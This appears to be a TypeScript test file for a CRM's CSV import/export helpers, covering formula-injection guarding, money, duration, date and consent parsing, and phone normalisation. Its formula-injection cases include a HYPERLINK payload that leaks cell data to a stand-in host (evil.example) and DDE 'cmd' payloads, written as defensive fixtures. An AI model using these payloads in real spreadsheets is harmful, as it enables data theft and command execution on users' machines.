import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { neutraliseCell } from '../../src/crm/csv/export.ts';
import { PhoneNormaliser } from '../../src/crm/csv/phones.ts';
import { firstInvalidUtf8, sniffDelimiter } from '../../src/crm/csv/reader.ts';
import { cellText, parseConsent, parseDurationSeconds, parseInstant, parseMoneyCents, splitList } from '../../src/crm/csv/values.ts';
import { tryNormalizePhone } from '../../src/crm/contacts/normalize.ts';

describe('neutraliseCell (CSV formula injection)', () => {
  const cases: Array<[string, string]> = [
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `'=HYPERLINK("http://evil.example/?"&A1,"click")`],
    ['+cmd|\' /C calc\'!A0', "'+cmd|' /C calc'!A0"],
    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['-', "'-"],
    ['+', "'+"],
    ['+13105550142', '+13105550142'], // a phone number cannot run anything
    ['+1 (310) 555-0142', '+1 (310) 555-0142'],
    ['-12.50', '-12.50'],
    ["'=1+1", "''=1+1"], // already guarded text keeps its apostrophe through export → import
    ['Dana Reyes', 'Dana Reyes'],
    ['a=b', 'a=b'],
    ['', ''],
    ['dana@example.com', 'dana@example.com'],
  ];
  for (const [input, expected] of cases) {
    test(JSON.stringify(input), () => assert.equal(neutraliseCell(input), expected));
  }

  test('import undoes exactly the guard export adds', () => {
    for (const value of ['=1+1', '@x', '-cmd', '+x', "'=1+1", "''=1", "'+13105550142", 'plain', '+13105550142', '\t=x']) {
      assert.equal(cellText(neutraliseCell(value)), value.trim());
    }
  });
});

describe('cell parsers', () => {
  const money: Array<[string, number | null]> = [
    ['$1,234.50', 123450],
    ['1234.5', 123450],
    ['80', 8000],
    ['$ 80.00', 8000],
    ['USD 99.99', 9999],
    ['.5', 50],
    ['0', 0],
    ['1,234,567.89', 123456789],
    ['-5', null],
    ['(12.00)', null],
    ['12.345', null],
    ['1.234,50', null],
    ['abc', null],
    ['$', null],
  ];
  for (const [text, cents] of money) {
    test(`money ${JSON.stringify(text)} → ${cents ?? 'error'}`, () => {
      if (cents === null) assert.throws(() => parseMoneyCents(text), { name: 'CellError' });
      else assert.equal(parseMoneyCents(text), cents);
    });
  }

  const durations: Array<[string, number | null]> = [
    ['95', 95],
    ['95.4', 95],
    ['1:35', 95],
    ['01:02:03', 3723],
    ['0:05', 5],
    ['1:75', null],
    ['5 minutes', null],
  ];
  for (const [text, seconds] of durations) {
    test(`duration ${JSON.stringify(text)} → ${seconds ?? 'error'}`, () => {
      if (seconds === null) assert.throws(() => parseDurationSeconds(text), { name: 'CellError' });
      else assert.equal(parseDurationSeconds(text), seconds);
    });
  }

  const zone = 'America/Chicago';
  const instants: Array<[string, string | null, boolean?]> = [
    ['2026-03-14T14:30:00Z', '2026-03-14T14:30:00.000Z'],
    ['2026-03-14T14:30:00-05:00', '2026-03-14T19:30:00.000Z'],
    ['2026-03-14 14:30', '2026-03-14T19:30:00.000Z'], // business zone (CDT, UTC-5)
    ['2026-03-14', '2026-03-14T05:00:00.000Z'],
    ['3/14/2026 2:30 PM', '2026-03-14T19:30:00.000Z'],
    ['3/14/2026', '2026-03-14T05:00:00.000Z'],
    ['14/3/2026 14:30', '2026-03-14T19:30:00.000Z', false],
    ['Mar 14, 2026', '2026-03-14T05:00:00.000Z'],
    ['1773498600', '2026-03-14T14:30:00.000Z'],
    ['2026-02-30', null],
    ['13/14/2026', null],
    ['yesterday', null],
  ];
  for (const [text, iso, monthFirst] of instants) {
    test(`instant ${JSON.stringify(text)} → ${iso ?? 'error'}`, () => {
      if (iso === null) assert.throws(() => parseInstant(text, zone, monthFirst ?? true), { name: 'CellError' });
      else assert.equal(parseInstant(text, zone, monthFirst ?? true), iso);
    });
  }

  test('consent answers', () => {
    for (const yes of ['yes', 'Y', 'TRUE', '1', 'opted in', 'Opt-In', 'granted']) assert.equal(parseConsent(yes), 'granted');
    for (const no of ['no', 'N', 'false', '0', 'opted out', 'unsubscribed', 'STOP', 'revoked']) assert.equal(parseConsent(no), 'revoked');
    assert.throws(() => parseConsent('maybe'), /not a consent answer/);
  });

  test('list cells split on , ; and |', () => {
    assert.deepEqual(splitList('vip; furnace |  2024,, '), ['vip', 'furnace', '2024']);
  });
});

describe('reader helpers', () => {
  test('delimiter sniffing', () => {
    assert.equal(sniffDelimiter('a,b,c\n1;2;3'), ',');
    assert.equal(sniffDelimiter('Name;Phone;Email\n'), ';');
    assert.equal(sniffDelimiter('Name\tPhone\n'), '\t');
    assert.equal(sniffDelimiter('Name\n'), ',');
  });

  test('first invalid UTF-8 byte', () => {
    const enc = (s: string) => new TextEncoder().encode(s);
    assert.equal(firstInvalidUtf8(enc('héllo wörld ✓ 😀')), -1);
    assert.equal(firstInvalidUtf8(Uint8Array.from([0x61, 0xe9, 0x62])), 1); // Latin-1 é
    assert.equal(firstInvalidUtf8(Uint8Array.from([0x61, 0xc0, 0x80])), 1); // overlong
    assert.equal(firstInvalidUtf8(Uint8Array.from([0xed, 0xa0, 0x80])), 0); // surrogate
    assert.equal(firstInvalidUtf8(Uint8Array.from([0x61, 0xe2, 0x9c])), -1); // cut at the end: undecided
  });
});

describe('PhoneNormaliser (bulk fast path)', () => {
  test('agrees with normalizePhone on random North American numbers and odd inputs', () => {
    let seed = 7;
    const rnd = () => ((seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31);
    const fast = new PhoneNormaliser('US');
    const inputs: string[] = [];
    for (let i = 0; i < 4000; i++) {
      const n = String(Math.floor(rnd() * 1e10)).padStart(10, '0');
      const formats = [n, `(${n.slice(0, 3)}) ${n.slice(3, 6)}-${n.slice(6)}`, `+1 ${n.slice(0, 3)}.${n.slice(3, 6)}.${n.slice(6)}`, `1-${n}`];
      inputs.push(formats[i % formats.length]);
      // Same prefix again, so the cache is exercised.
      inputs.push(`${n.slice(0, 6)}${String(Math.floor(rnd() * 1e4)).padStart(4, '0')}`);
    }
    inputs.push('+44 20 7946 0958', '020 7946 0958', '+1 310 555 0142 x12', '310-555-0142 ext 4', 'call me', '', '+13105550142', '13105550142');
    for (const input of inputs) {
      const expected = tryNormalizePhone(input, 'US');
      let actual: string | null;
      try {
        actual = fast.normalise(input, 'phone');
      } catch {
        actual = null;
      }
      assert.equal(actual, expected, `input ${JSON.stringify(input)}`);
    }
  });

  test('outside North America, only the full parser decides', () => {
    const gb = new PhoneNormaliser('GB');
    assert.equal(gb.normalise('020 7946 0958', 'phone'), tryNormalizePhone('020 7946 0958', 'GB'));
    assert.equal(gb.normalise('+1 (310) 555-0142', 'phone'), '+13105550142');
    assert.throws(() => gb.normalise('13105550142', 'phone'));
  });
});
